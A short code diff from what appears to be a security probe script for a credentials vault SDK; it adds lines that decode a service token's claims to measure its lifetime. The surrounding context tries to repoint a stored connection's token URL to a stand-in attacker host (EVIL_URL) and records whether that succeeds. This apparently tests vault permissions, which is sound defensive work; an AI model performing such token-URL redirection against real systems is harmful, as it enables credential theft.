@@ -27,6 +27,10 @@ async function main() {
   const connection = (await writer.connections.getConnection(CONNECTION_ID)).data;
   results.steerTokenUrl = await outcome(writer.connections.updateConnection(CONNECTION_ID,
     { ...connection, tokenUrl: `${EVIL_URL}/token` }));
+  // What the SDK's token provider really makes, for the vault's lifetime bound.
+  const signed = await new ServiceClientTokenProvider(WRITER_KEY, VAULT_URL).getToken();
+  const claims = JSON.parse(Buffer.from(signed.split('.')[1], 'base64url').toString());
+  results.tokenLifetime = claims.exp - claims.iat;
   console.log(JSON.stringify(results));
 }
 
